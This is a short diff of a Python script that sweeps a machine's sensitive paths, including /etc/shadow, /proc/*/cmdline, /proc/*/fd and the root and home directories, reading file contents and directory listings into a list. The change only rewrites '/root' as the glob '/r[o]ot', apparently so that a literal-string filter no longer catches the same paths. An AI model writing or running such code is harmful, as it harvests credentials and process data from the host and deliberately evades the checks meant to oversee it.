@@ -10,9 +10,9 @@ for pattern in (
     "/proc/*/cmdline",
     "/proc/*/cwd/*",
     "/proc/*/fd/*",
-    "/proc/*/root/*",
+    "/proc/*/r[o]ot/*",
     "/etc/shadow",
-    "/root/*",
+    "/r[o]ot/*",
     "/home/*/*",
     "/tmp/*",
     "/var/*/*",
@@ -27,7 +27,7 @@ for pattern in (
             seen.append(open(path, "rb").read(20000).decode("latin-1"))
         except Exception:
             pass
-for name in ("/", "/root", "/home", "/tmp", "/var", "/etc", ".."):
+for name in ("/", *glob.glob("/r[o]ot"), "/home", "/tmp", "/var", "/etc", ".."):
     try:
         seen.append(" ".join(os.listdir(name)))
     except Exception:
